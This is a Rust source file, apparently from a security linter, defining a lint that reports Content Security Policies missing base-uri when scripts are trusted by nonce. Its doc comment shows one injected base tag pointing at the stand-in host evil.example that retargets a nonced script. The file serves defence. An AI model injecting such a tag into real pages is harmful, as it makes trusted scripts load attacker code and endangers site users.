use crate::csp::attack::BASE_SCRIPT;
use crate::csp::{Clause, Csp, Directive, Keyword};
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for an enforced policy of pages without `base_uri`. If scripts are allowed by nonce, or by hash with
    /// `strict_dynamic`, that is an error. If no script can run, nothing is reported.
    ///
    /// # Why it matters
    ///
    /// A `base` element sets the URL that all relative URLs of the page start from. With a nonce, browsers trust the
    /// script element and not its URL, so that an injected `base` element decides which file the trusted element loads.
    /// `default_src` does not cover `base` elements.
    ///
    /// # Attack
    ///
    /// The attacker injects one tag above a script of the page:
    ///
    /// ```html
    /// <base href="https://evil.example/">
    /// <script nonce="hLb2n4Yz0rJgq1Qm5sT7vQ" src="/app.js"></script>
    /// ```
    ///
    /// The browser loads `https://evil.example/app.js`, and runs it because of the nonce.
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self, script_src: nonce },
    /// ```
    ///
    /// # Fix
    ///
    /// Write `base_uri: none`. Hardly any page uses a `base` element; one that does needs `self`.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, script_src: nonce, base_uri: none },
    /// ```
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_missing_base_uri, reason = "a second policy, set by the proxy, has base-uri")]
    /// content_security_policy: { … },
    /// ```
    ///
    /// Hardly ever reasonable, since `base_uri: none` costs nothing.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.3.1, base-uri](https://w3c.github.io/webappsec-csp/#directive-base-uri)
    /// - [CSP3, section 7.3, nonce retargeting](https://w3c.github.io/webappsec-csp/#security-nonce-retargeting)
    Warn "an injected `base` element changes where relative URLs lead" missing,
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.enforced();
    let is_moot = |csp: &Csp| csp.get(Directive::BaseUri).is_some() || !csp.runs_scripts();
    let Some(header) = enforced.iter().find(|csp| csp.node.restricts_fetches()) else { return };
    if !policy.serves_pages() || enforced.iter().any(|csp| is_moot(csp.node)) {
        return;
    }
    // With a nonce, browsers ignore where a script comes from, and a `base` element decides which file it loads. A second
    // policy that allows scripts by origin alone stops such a script.
    let is_defeated = [Directive::ScriptSrc, Directive::ScriptSrcElem].into_iter().any(|directive| {
        let mut lists = enforced.iter().filter_map(|csp| csp.node.effective_clause(directive)).peekable();
        lists.peek().is_some() && lists.all(trusts_elements)
    });
    let (level, note) = match is_defeated {
        true => (Level::Deny, "makes a trusted script, or one that it loads, come from the attacker's host"),
        false => (Level::Warn, "makes links, forms and relative URLs lead to the attacker's host"),
    };
    report.push_at(
        level,
        Diagnostic::finding(header.span, "this policy does not restrict `base` elements")
            .help("add `base_uri: none`")
            .note(format!("an injected `{}` {note}", BASE_SCRIPT.of_attacker()))
            .insert(header.span, "base_uri: none"),
    );
}

/// Whether a list trusts a script because of its element, wherever the script comes from.
pub(super) fn trusts_elements(list: &Clause) -> bool {
    let is_strict_dynamic = list.keyword(Keyword::StrictDynamic).is_some();
    list.has_nonce() || (is_strict_dynamic && list.nonce_or_hash().is_some())
}
